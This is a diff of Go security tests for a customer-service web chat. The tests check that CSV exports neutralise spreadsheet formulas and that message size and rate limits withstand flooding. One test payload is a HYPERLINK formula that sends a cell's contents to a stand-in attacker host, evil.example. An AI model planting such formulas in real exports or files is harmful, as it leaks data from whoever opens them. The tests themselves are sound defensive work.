@@ -8,6 +8,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
@@ -107,15 +108,11 @@ func TestSecurityCSVFormulaInjection(t *testing.T) {
 	s := startJourneyServer(t, dsn, nil, nil)
 	const evil = `=HYPERLINK("http://evil.example/?x="&C2,"点击")`
 	// As in the finding: the formula, then 转人工 (the ticket's summary and description are the formula).
-	sess := s.session()
-	s.say(sess, nil, evil)
-	r := s.say(sess, nil, "转人工")
-	no := ticketNo.FindString(r[len(r)-1].Text)
-	if no == "" {
-		t.Fatalf("no ticket number in %+v", r)
-	}
+	sess, no := handoff(t, s.e2eServer, evil)
+	r := []reply{s.poll(sess, 0, no)}
 	s.cli("claim", no)
-	s.cli("resolve", no, "-1+1 更换电机")
+	s.cli("reply", no, "您好，马上处理")
+	s.cli("resolve", no, "--", "-1+1 更换电机") // text that begins with "-" goes after --
 	ask := s.poll(sess, r[len(r)-1].ID, no)
 	r = s.say(sess, []reply{ask}, "!已解决")
 	r = s.say(sess, r, "!4")
@@ -170,6 +167,26 @@ func TestSecurityCSVFormulaInjection(t *testing.T) {
 	}
 	checkNoFormula(t, "console CSV", rows, "HYPERLINK")
 	checkNoFormula(t, "console CSV", rows, "@SUM(1+1)")
+}
+
+// handoff is a web chat customer who says first, then asks for a person (转人工), skipping the
+// optional questions; it returns the session and the ticket number.
+func handoff(t *testing.T, s *e2eServer, first string) (string, string) {
+	t.Helper()
+	sess := s.session()
+	s.say(sess, nil, first)
+	r := s.say(sess, nil, "转人工")
+	for i := 0; i < 3 && ticketNo.FindString(r[len(r)-1].Text) == ""; i++ {
+		if !hasButton(r, "跳过") {
+			t.Fatalf("no ticket and nothing to skip in %+v", r)
+		}
+		r = s.say(sess, r, "!跳过")
+	}
+	no := ticketNo.FindString(r[len(r)-1].Text)
+	if no == "" {
+		t.Fatalf("no ticket number in %+v", r)
+	}
+	return sess, no
 }
 
 func readCSV(t *testing.T, s string) [][]string {
@@ -410,4 +427,105 @@ func TestSecuritySlowClients(t *testing.T) {
 		resp.Body.Close()
 		return resp.StatusCode == http.StatusOK
 	})
+}
+
+// postWebMessage posts text to a web chat session, optionally as the client at xff (behind the trusted
+// proxy), and returns the status.
+func postWebMessage(t *testing.T, c *http.Client, base, sess, text, xff string) int {
+	t.Helper()
+	b, _ := json.Marshal(map[string]string{"session": sess, "text": text})
+	req, _ := http.NewRequest(http.MethodPost, base+"/api/webchat/messages", bytes.NewReader(b))
+	req.Header.Set("Content-Type", "application/json")
+	if xff != "" {
+		req.Header.Set("X-Forwarded-For", xff)
+	}
+	resp, err := c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	return resp.StatusCode
+}
+
+// newWebSession makes a web chat session as the client at xff and returns it ("" and the status when refused).
+func newWebSession(t *testing.T, c *http.Client, base, xff string) (string, int) {
+	t.Helper()
+	req, _ := http.NewRequest(http.MethodPost, base+"/api/webchat/sessions", strings.NewReader("{}"))
+	req.Header.Set("Content-Type", "application/json")
+	if xff != "" {
+		req.Header.Set("X-Forwarded-For", xff)
+	}
+	resp, err := c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var r struct{ Session string }
+	json.NewDecoder(resp.Body).Decode(&r)
+	return r.Session, resp.StatusCode
+}
+
+// TestSecurityWebChatFlood (findings 3 and 4), with the default limits: over-long messages are
+// refused before anything is stored; one session, and one client over many sessions, are rate
+// limited; a client making sessions flat out does not stop other clients from starting a chat.
+func TestSecurityWebChatFlood(t *testing.T) {
+	s, _ := securityServer(t, func(c *Config) { c.Security.TrustedProxies = []string{"127.0.0.1"} })
+	c := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 16}}
+	stored := func() int64 {
+		var n int64
+		if err := s.db.Gorm().Raw("SELECT COUNT(*) FROM messages WHERE direction = 'in'").Scan(&n).Error; err != nil {
+			t.Fatal(err)
+		}
+		return n
+	}
+
+	// Finding 3: 30 × 60 KB from one session.
+	sess, _ := newWebSession(t, c, s.url, "198.51.100.1")
+	big := strings.Repeat("长", 20000) // 60 000 bytes
+	codes := map[int]int{}
+	for i := 0; i < 30; i++ {
+		codes[postWebMessage(t, c, s.url, sess, big, "198.51.100.1")]++
+	}
+	if codes[http.StatusRequestEntityTooLarge] != 30 {
+		t.Errorf("30 × 60 KB: %v, want 30 × 413", codes)
+	}
+	if n := stored(); n != 0 {
+		t.Errorf("%d over-long messages were stored, want none", n)
+	}
+	// One session flat out: the per-session limit answers 429.
+	codes = map[int]int{}
+	for i := 0; i < 40; i++ {
+		codes[postWebMessage(t, c, s.url, sess, fmt.Sprintf("你好 %d", i), "198.51.100.1")]++
+	}
+	if codes[http.StatusTooManyRequests] == 0 || codes[http.StatusOK] == 0 {
+		t.Errorf("40 quick messages from one session: %v, want some 200 then 429", codes)
+	}
+	// One client over many sessions: the per-client limit answers 429.
+	codes = map[int]int{}
+	for i := 0; i < 10; i++ {
+		sx, code := newWebSession(t, c, s.url, "198.51.100.2")
+		if code != http.StatusCreated {
+			t.Fatalf("session %d: %d", i, code)
+		}
+		for j := 0; j < 15; j++ {
+			codes[postWebMessage(t, c, s.url, sx, "你好", "198.51.100.2")]++
+		}
+	}
+	if codes[http.StatusTooManyRequests] == 0 {
+		t.Errorf("150 quick messages over 10 sessions of one client: %v, want the client limited (429)", codes)
+	}
+
+	// Finding 4: a client making sessions flat out; real customers from other addresses get theirs.
+	for i := 0; i < 80; i++ {
+		newWebSession(t, c, s.url, "198.51.100.3")
+	}
+	if _, code := newWebSession(t, c, s.url, "198.51.100.3"); code != http.StatusTooManyRequests {
+		t.Errorf("the flooding client's next session: %d, want 429", code)
+	}
+	for i := 0; i < 10; i++ {
+		if _, code := newWebSession(t, c, s.url, fmt.Sprintf("203.0.113.%d", i+1)); code != http.StatusCreated {
+			t.Errorf("real customer %d during the flood: %d, want 201", i, code)
+		}
+	}
 }
